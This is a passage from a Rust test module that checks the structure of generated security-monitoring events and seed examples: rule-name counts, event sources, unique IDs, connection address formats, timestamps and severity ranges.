            if fields.get("evt.type").and_then(Value::as_str) == Some("connect") {
                let fd = fields["fd.name"].as_str().unwrap();
                let (s, d) = fd.split_once("->").unwrap();
                assert_eq!(s.matches(':').count(), 1, "{fd}");
                assert_eq!(d.matches(':').count(), 1, "{fd}");
            }
            for v in fields.values() {
                assert!(v.is_string());
            }
            rules.insert(e["content"]["ruleName"].as_str().unwrap().to_owned());
            sources.insert(e["source"].as_str().unwrap().to_owned());
        }
        assert!(rules.len() >= 15, "{rules:?}");
        assert!(sources.contains("auditTrail") && sources.contains("syscall"));
        let ids: std::collections::HashSet<_> = evs.iter().map(|e| &e["id"]).collect();
        assert_eq!(ids.len(), evs.len());
    }

    #[test]
    fn seed_examples_are_raw_events() {
        let evs = seed_examples();
        assert!(evs.len() >= 4);
        let ids: std::collections::HashSet<_> = evs.iter().map(|e| e["id"].clone()).collect();
        assert_eq!(ids.len(), evs.len());
        for e in &evs {
            assert!(e.get("finding_type").is_none());
            assert!(e["content"]["fields"].get("proc.anames").is_none());
            assert!(parse_rfc3339_nanos(e["timestamp"].as_str().unwrap()).is_some());
            assert!((0..=7).contains(&e["severity"].as_i64().unwrap()));
        }
    }
}
